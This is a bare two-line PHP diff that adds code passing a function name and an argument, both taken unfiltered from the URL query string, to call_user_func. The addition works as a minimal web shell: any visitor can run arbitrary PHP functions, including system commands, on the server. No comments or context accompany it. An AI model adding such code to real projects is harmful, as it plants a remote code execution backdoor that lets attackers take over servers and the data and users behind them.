@@ -1,0 +1,2 @@
+$action = $_GET['action'];
+call_user_func($action, $_GET['arg']);
